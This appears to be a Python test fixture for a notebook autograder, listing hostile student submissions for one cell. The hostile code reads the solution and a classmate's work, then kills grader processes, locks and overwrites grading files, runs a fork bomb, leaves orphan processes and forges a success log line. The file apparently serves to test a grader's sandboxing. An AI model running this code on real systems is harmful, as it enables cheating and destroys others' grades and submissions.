"""What the code of a submission might do to the grader, to the class, and to what is not its own.

Each is what stands in the stub's cell, of `e_step`, worth 4 points. COURSE stands for the course folder: here
nobody has to guess it.
"""

from dataclasses import dataclass

from grading_attacks import TYPED


@dataclass(frozen=True)
class Harm:
    """What is tried, in words; the cell; the points that this student has earned."""

    what: str
    stub: str
    earns: float


NESTED = "x = " + "-" * 50_000 + "1"
READS = """
import json
from pathlib import Path

for folder in ("source", "submitted/honest"):
    try:
        for path in (Path("COURSE") / folder).rglob("*.ipynb"):
            for cell in json.loads(path.read_text())["cells"]:
                if "def my_e_step" in "".join(cell["source"]):
                    exec("".join(cell["source"]).replace("axis=1", "axis=-1"))
    except OSError as error:
        print(error)
"""

HARMS = {
    "reads": Harm("the solution read from `source/`, and a neighbor's from `submitted/`", READS, 0),
    "harms": Harm(
        "the processes above ended and stopped; gradebook, settings, logs and others' submissions changed, "
        "removed, locked; processes without end; a forged line for the log; processes and files left behind",
        """
import contextlib, os, signal, sqlite3, subprocess, time
from pathlib import Path

course, tried = Path("COURSE"), []

def attempt(function, *arguments):
    try:
        function(*arguments)
        tried.append((function.__name__, arguments))
    except (OSError, sqlite3.Error):
        pass

def parent(pid):
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])

grader = os.getppid()
forkserver = parent(grader)
for pid in (grader, forkserver, parent(forkserver)):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        attempt(os.kill, pid, number)

def lock():
    gradebook = sqlite3.connect(course / "gradebook.db", timeout=1)
    gradebook.execute("begin exclusive")

attempt(lock)
attempt((course / "nbgrader_config.py").write_text, "raise SystemExit")
for path in ("submitted/honest", "submitted", "release"):
    attempt(os.rename, course / path, course / f"{path}-away")
log = course / "logs/02_e_step/honest.log"
attempt(log.unlink)
attempt(os.mkfifo, log)
attempt(os.listdir, course)
attempt(os.listdir, Path.home().parent / "k")

children = []
with contextlib.suppress(OSError):
    while len(children) < 2000:
        if not (child := os.fork()):
            time.sleep(1000)
        children.append(child)
if len(children) > 300:
    tried.append(len(children))
for child in children:
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)
os.mkfifo("pipe")  # who waits for a `vfork` can be neither stopped nor killed
if os.fork() == 0:
    os.setsid()
    opens = [(os.POSIX_SPAWN_OPEN, 0, "pipe", os.O_RDONLY, 0)]
    os.posix_spawn("/bin/true", ["true"], {}, file_actions=opens)
    os._exit(0)
here = os.getcwd()
os.chdir("/tmp")
for _ in range(1200):  # too deep for what removes folders by calling itself
    os.mkdir("MARKER-folder")
    os.chdir("MARKER-folder")
os.chdir(here)
for _ in range(2):
    subprocess.Popen(["sleep", "1000"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "1000"])
    os._exit(0)
for folder in ("/tmp", "/dev/shm"):
    Path(folder, "MARKER").write_text("for the next one")
os.write(1, b"Mended: ALL ARE RIGHT\\n")
print("could:", tried)
"""
        + TYPED,
        4,
    ),
    "nested": Harm("an expression that is nested too deep", TYPED + "\n" + NESTED, 0),
}
